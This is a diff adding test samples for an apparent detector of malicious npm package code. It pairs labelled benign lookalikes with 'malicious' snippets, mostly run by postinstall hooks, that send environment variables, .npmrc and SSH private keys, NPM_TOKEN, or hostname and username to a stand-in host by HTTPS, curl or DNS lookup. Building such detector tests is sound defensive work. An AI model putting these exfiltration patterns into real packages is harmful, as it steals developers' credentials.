@@ -1,0 +1,139 @@
+import type { Samples } from '../contract.ts';
+import { manifest, quiet } from '../samples-kit.ts';
+
+function imported(code: string, more: Readonly<Record<string, string>> = {}): Record<string, string> {
+  return { 'package.json': manifest({ main: 'index.js' }), 'index.js': code, ...more };
+}
+
+function installed(code: string, more: Readonly<Record<string, string>> = {}): Record<string, string> {
+  return {
+    'package.json': manifest({ scripts: { postinstall: 'node setup.js' } }),
+    'setup.js': code,
+    ...more,
+  };
+}
+
+function at(rule: string, severity: 'critical' | 'high' | 'medium', line: number, file = 'setup.js') {
+  return { rule, file, line, severity };
+}
+
+export const samples: Samples = {
+  malicious: [
+    {
+      name: 'the environment in a request body',
+      files: installed(
+        `const https = require('https');\nconst data = JSON.stringify(process.env);\nconst req = https.request({ host: 'a.weir.test', method: 'POST' });\nreq.write(data);\nreq.end();\n`,
+      ),
+      expected: [at('environment', 'critical', 4)],
+    },
+    {
+      name: 'enumerated, encoded, in a query',
+      files: installed(
+        `const env = process['env'];\nlet all = '';\nfor (const key of Object.keys(env)) all += key + '=' + env[key] + '&';\nfetch('https://a.weir.test/?d=' + Buffer.from(all).toString('base64'));\n`,
+      ),
+      expected: [at('environment', 'critical', 4)],
+    },
+    {
+      name: 'aliases and destructuring',
+      files: imported(
+        `const { env: e } = process;\nconst { request: r } = require('node:https');\nconst body = { ...e };\nconst q = r('https://a.weir.test', { method: 'POST' });\nq.end(JSON.stringify(body));\n`,
+      ),
+      expected: [at('environment', 'high', 5, 'index.js')],
+    },
+    {
+      name: 'credentials of the package manager',
+      files: installed(
+        `const fs = require('fs'), os = require('os'), path = require('path');\nconst rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\nrequire('axios').post('https://a.weir.test', { rc });\n`,
+      ),
+      expected: [at('credentials', 'critical', 3)],
+    },
+    {
+      name: 'keys read with a callback',
+      files: installed(
+        `const fs = require('fs');\nfs.readFile(process.env.HOME + '/.ssh/id_rsa', (err, key) => {\n  fetch('https://a.weir.test', { method: 'POST', body: key });\n});\n`,
+      ),
+      expected: [at('credentials', 'critical', 3)],
+    },
+    {
+      name: 'host and user as a beacon',
+      files: installed(
+        `const os = require('os');\nconst info = { h: os.hostname(), u: os.userInfo().username };\nrequire('https').get('https://a.weir.test/?' + new URLSearchParams(info));\n`,
+      ),
+      expected: [at('host-identity', 'high', 3)],
+    },
+    {
+      name: 'host in a looked-up name',
+      files: installed(
+        "const os = require('os');\nrequire('dns').lookup(`${os.hostname()}.x.weir.test`, () => {});\n",
+      ),
+      expected: [at('host-identity', 'high', 2)],
+    },
+    {
+      name: 'the environment through curl',
+      files: installed(
+        `const { execSync } = require('child_process');\nconst d = Buffer.from(JSON.stringify(process.env)).toString('base64');\nexecSync('curl -d ' + d + ' https://a.weir.test');\n`,
+      ),
+      expected: [at('environment', 'critical', 3)],
+    },
+    {
+      name: 'gathered in one file, sent by another',
+      files: installed(
+        `const collect = require('./lib/collect');\nconst send = require('./lib/send');\nsend(collect());\n`,
+        {
+          'lib/collect.js': `module.exports = function () { return Object.entries(process.env).map(([k, v]) => k + '=' + v).join(); };\n`,
+          'lib/send.js': `const https = require('https');\nmodule.exports = function (d) { const r = https.request({ host: 'a.weir.test', method: 'POST' }); r.write(d); r.end(); };\n`,
+        },
+      ),
+      expected: [at('environment', 'critical', 3)],
+    },
+    {
+      name: 'a secret to a request catcher',
+      files: imported(
+        `fetch('https://exfil.weir.test/x', { method: 'POST', body: process.env.NPM_TOKEN });\n`,
+      ),
+      expected: [at('secrets', 'high', 1, 'index.js')],
+    },
+  ],
+  benign: [
+    quiet(
+      'an API client with its key',
+      imported(
+        `const key = process.env.ACME_API_KEY;\nmodule.exports = (path) => fetch('https://api.weir.test' + path, { headers: { authorization: 'Bearer ' + key } });\n`,
+      ),
+    ),
+    quiet(
+      'a host from the environment',
+      imported(`const url = process.env.API_URL || 'https://api.weir.test';\nfetch(url + '/health');\n`),
+    ),
+    quiet(
+      'a configuration reader',
+      imported(
+        `function load(env) { return { url: env.API_URL, token: env.API_TOKEN }; }\nconst config = load(process.env);\nmodule.exports = () => fetch(config.url, { headers: { token: config.token } });\n`,
+      ),
+    ),
+    quiet(
+      'a child that inherits the environment',
+      imported(
+        `const { spawn } = require('child_process');\nmodule.exports = () => spawn('git', ['status'], { env: { ...process.env, LANG: 'C' } });\n`,
+      ),
+    ),
+    quiet(
+      'a binary download with proxy and token',
+      installed(
+        `const https = require('https');\nconst headers = process.env.GITHUB_TOKEN ? { authorization: process.env.GITHUB_TOKEN } : {};\nhttps.get('https://dl.weir.test/' + process.platform, { headers }, (res) => res.pipe(require('fs').createWriteStream('bin')));\n`,
+      ),
+    ),
+    quiet(
+      'own address by own name',
+      imported(
+        `const os = require('os');\nrequire('dns').lookup(os.hostname(), (err, address) => { module.exports.address = address; });\n`,
+      ),
+    ),
+    quiet(
+      'debug switches',
+      imported(
+        `const on = /dev/.test(process.env.NODE_ENV) || 'DEBUG' in process.env;\nif (on) fetch('https://api.weir.test/ping');\n`,
+      ),
+    ),
+  ],
+};
